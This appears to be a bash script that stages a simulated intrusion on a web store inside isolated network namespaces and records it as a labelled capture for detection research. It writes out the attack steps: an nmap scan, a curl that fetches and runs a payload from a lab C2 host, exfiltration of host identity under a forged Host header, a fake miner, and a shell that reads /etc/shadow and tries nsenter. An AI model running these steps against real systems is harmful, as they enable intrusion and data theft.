#!/usr/bin/env bash
# A small lab incident, recorded with `sysnb -w` (root). See scenarios/README.md for the story and the
# ground truth this writes next to the capture.
#
#   sudo scenarios/storefront_incident.sh [OUT.scap.gz]     (default sysnb/data/storefront_incident.scap.gz)
#
# The lab lives in network namespaces this script creates: a switch namespace with a bridge, and the
# "store" (10.66.0.2: frontend :8080, backend :9000, log writer, health prober), "attacker" (10.66.0.3)
# and "c2" (10.66.0.4) hosts wired to it. No namespace has a route out of 10.66.0.0/24, the host's own
# network is untouched, the scan covers six ports for a few seconds, and everything is removed on exit.
set -euo pipefail
here=$(cd "$(dirname "$0")/.." && pwd)
out=${1:-$here/sysnb/data/storefront_incident.scap.gz}
lab=/tmp/storefront
truth=${out%.scap.gz}.truth.json
SYSNB=${SYSNB:-sysnb}
NS=(snb-sw snb-store snb-attacker snb-c2)
[ "$(id -u)" = 0 ] || { echo "run as root (network namespaces + eBPF recorder)" >&2; exit 1; }
command -v nmap >/dev/null || { echo "needs nmap: apt-get install nmap" >&2; exit 1; }

cleanup() {
  set +e
  [ -n "${rec:-}" ] && kill -TERM "$rec" 2>/dev/null && wait "$rec"
  for ns in "${NS[@]}"; do ip netns pids "$ns" 2>/dev/null | xargs -r kill 2>/dev/null; done
  sleep 0.3
  for ns in "${NS[@]}"; do ip netns del "$ns" 2>/dev/null; done
  rm -rf "$lab"
}
trap cleanup EXIT INT TERM

# steps are kept in memory and written after the recording stops, so the ground truth is not in the capture
steps=()
note() { steps+=("$(printf '{"t": %s, "event": "%s"}' "$EPOCHREALTIME" "$1")"); echo "scenario: $1"; }
in_ns() { local ns=$1; shift; ip netns exec "$ns" "$@"; }

# -- the lab ---------------------------------------------------------------------------------------------------
rm -rf "$lab"; mkdir -p "$lab"/{www,log,tmp,c2}
for ns in "${NS[@]}"; do ip netns add "$ns"; in_ns "$ns" ip link set lo up; done
in_ns snb-sw ip link add br0 type bridge; in_ns snb-sw ip link set br0 up
i=2
for host in store attacker c2; do
  ip link add "v-$host" netns "snb-$host" type veth peer name "p-$host" netns snb-sw
  in_ns "snb-$host" ip addr add "10.66.0.$i/24" dev "v-$host"
  in_ns "snb-$host" ip link set "v-$host" up
  in_ns snb-sw ip link set "p-$host" master br0 up
  i=$((i + 1))
done

cat > "$lab/www/index.html" <<'HTML'
<html><body><h1>Storefront</h1><p>Welcome to the shop.</p></body></html>
HTML
cat > "$lab/c2/payload.sh" <<'PAYLOAD'
#!/bin/sh
# dropped by the "attacker": deface the shop, exfiltrate, mine, poke around
for i in 1 2 3 4 5; do echo "<!-- SYSNB-IOC-7f3a9 owned by c2 -->" >> /tmp/storefront/www/index.html; sleep 0.2; done
curl -s -H 'Host: api.twilio.com' -H 'Content-Type: application/x-www-form-urlencoded' \
  --data "To=%2B15550100&Body=$(hostname)-$(id -un)-creds" http://10.66.0.4:8000/2010-04-01/Accounts/AC123/Messages.json >/dev/null
cp /bin/sleep /tmp/storefront/tmp/xmrig && /tmp/storefront/tmp/xmrig 3 &
PAYLOAD
cat > "$lab/c2/c2.py" <<'PY'
import http.server, sys
class H(http.server.SimpleHTTPRequestHandler):
    def do_POST(self):
        body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        open("/tmp/storefront/c2/loot.txt", "ab").write(body + b"\n")
        self.send_response(201); self.end_headers(); self.wfile.write(b'{"sid": "SM123"}')
    def log_message(self, *a): pass
http.server.ThreadingHTTPServer(("10.66.0.4", 8000), lambda *a: H(*a, directory="/tmp/storefront/c2")).serve_forever()
PY
cat > "$lab/backend.py" <<'PY'
import http.server, json
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = json.dumps({"items": ["mug", "shirt"], "path": self.path}).encode()
        self.send_response(200); self.send_header("Content-Length", str(len(body))); self.end_headers()
        self.wfile.write(body)
    def log_message(self, *a): pass
http.server.ThreadingHTTPServer(("10.66.0.2", 9000), H).serve_forever()
PY
cat > "$lab/frontend.py" <<'PY'
import http.server, urllib.request
class H(http.server.SimpleHTTPRequestHandler):
    def do_GET(self):
        if self.path.startswith("/api/"):
            data = urllib.request.urlopen("http://10.66.0.2:9000" + self.path[4:], timeout=2).read()
            self.send_response(200); self.send_header("Content-Length", str(len(data))); self.end_headers()
            self.wfile.write(data)
            return
        super().do_GET()
    def log_message(self, fmt, *args):
        with open("/tmp/storefront/log/access.log", "a") as f:
            f.write("%s %s\n" % (self.client_address[0], fmt % args))
http.server.ThreadingHTTPServer(("10.66.0.2", 8080), lambda *a: H(*a, directory="/tmp/storefront/www")).serve_forever()
PY

# -- services, then the recorder -------------------------------------------------------------------------------
in_ns snb-store python3 "$lab/backend.py" 2>/dev/null &
in_ns snb-store python3 "$lab/frontend.py" 2>/dev/null &
in_ns snb-c2 python3 "$lab/c2/c2.py" 2>/dev/null &
sleep 1
in_ns snb-store sh -c 'while :; do curl -s -o /dev/null http://10.66.0.2:8080/api/items; sleep 1; done' &
mkdir -p "$(dirname "$out")"
$SYSNB -w "$out" -s 256 -z &  # unquoted: SYSNB may be "python -m sysnb"
rec=$!
sleep 2
note "recording started"

# -- the incident ------------------------------------------------------------------------------------------------
note "attacker 10.66.0.3 scans the store 10.66.0.2 (nmap -sT then -sS, ports 22,80,443,3306,8080,9000)"
in_ns snb-attacker nmap -n -Pn -sT -T4 -p 22,80,443,3306,8080,9000 10.66.0.2 >/dev/null
in_ns snb-attacker nmap -n -Pn -sS -T4 -p 22,80,443,3306,8080,9000 10.66.0.2 >/dev/null
note "attacker browses the shop"
in_ns snb-attacker curl -s -o /dev/null http://10.66.0.2:8080/
note "store fetches payload.sh from the c2 10.66.0.4:8000"
in_ns snb-store curl -s -o "$lab/tmp/payload.sh" http://10.66.0.4:8000/payload.sh
note "payload runs: defaces index.html with the marker, posts to the c2 with a forged Host header, starts the miner"
in_ns snb-store sh "$lab/tmp/payload.sh"
note "interactive shell: id, sudo and nsenter (setns) attempts, reads /etc/shadow"
in_ns snb-store script -qec 'bash --norc --noprofile -i -c "id; sudo -n true; nsenter -t 1 -m true; cat /etc/shadow | head -1 >/dev/null; ls /root"' /dev/null >/dev/null 2>&1 || true
note "an operator checks the page: cat reads the tampered index.html"
in_ns snb-store sh -c "cat $lab/www/index.html | wc -c" >/dev/null
sleep 3
note "recording stopped"
kill -TERM "$rec"; wait "$rec" || true; rec=
printf '%s\n' "${steps[@]}" > "$lab/truth.jsonl"

python3 - "$lab/truth.jsonl" "$truth" <<'PY'
import json, sys
events = [json.loads(l) for l in open(sys.argv[1])]
json.dump({"lab": {"store": "10.66.0.2", "attacker": "10.66.0.3", "c2": "10.66.0.4", "frontend_port": 8080,
                   "backend_port": 9000, "c2_port": 8000, "scanned_ports": [22, 80, 443, 3306, 8080, 9000],
                   "marker": "SYSNB-IOC-7f3a9", "tampered_file": "/tmp/storefront/www/index.html",
                   "exfil_host_header": "api.twilio.com", "miner": "/tmp/storefront/tmp/xmrig"},
           "timeline": events}, open(sys.argv[2], "w"), indent=2)
PY
ls -la "$out" "$truth"
